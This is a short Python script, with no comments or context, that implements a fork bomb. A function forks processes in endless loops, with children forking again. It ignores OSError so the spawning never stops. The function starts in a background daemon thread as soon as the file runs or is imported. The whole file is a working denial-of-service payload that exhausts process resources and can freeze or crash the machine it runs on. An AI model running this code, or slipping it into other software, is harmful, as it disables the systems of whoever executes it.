import os
import threading


def bomb():
    while True:
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        pass
        except OSError:
            pass


threading.Thread(target=bomb, daemon=True).start()
